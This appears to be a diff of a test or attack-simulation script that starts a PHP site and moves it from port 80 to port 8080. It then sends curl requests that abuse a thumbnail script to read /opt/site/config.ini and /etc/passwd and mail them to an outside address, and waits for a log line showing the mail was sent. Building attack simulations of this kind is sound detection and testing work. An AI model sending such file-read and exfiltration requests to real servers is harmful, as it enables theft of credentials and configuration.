@@ -11,12 +11,12 @@ setup() {
   chown -R www-data: /opt/site
 }
 act() {
-  (cd /opt/site && exec setpriv --reuid www-data --regid www-data --init-groups env -i PATH=/usr/bin:/bin php -S 0.0.0.0:80 -t /opt/site >/dev/null 2>&1) & own_pids+=($!); daemon_is $!
+  (cd /opt/site && exec setpriv --reuid www-data --regid www-data --init-groups env -i PATH=/usr/bin:/bin php -S 0.0.0.0:8080 -t /opt/site >/dev/null 2>&1) & own_pids+=($!); daemon_is $!
   sleep 1
   small_talk 3
-  for n in 1 2; do outside curl -s "http://$host_ip/contact.php" >/dev/null; sleep 1; done
-  outside curl -s "http://$host_ip/images/thumb.php?f=/opt/site/config.ini&t=c4@example.net" >/dev/null
-  outside curl -s "http://$host_ip/images/thumb.php?f=/etc/passwd&t=c4@example.net" >/dev/null
+  for n in 1 2; do outside curl -s "http://$host_ip:8080/contact.php" >/dev/null; sleep 1; done
+  outside curl -s "http://$host_ip:8080/images/thumb.php?f=/opt/site/config.ini&t=c4@example.net" >/dev/null
+  outside curl -s "http://$host_ip:8080/images/thumb.php?f=/etc/passwd&t=c4@example.net" >/dev/null
   wait_log 'to=<c4@example.net>.*status=sent' 20
   small_talk 1
 }
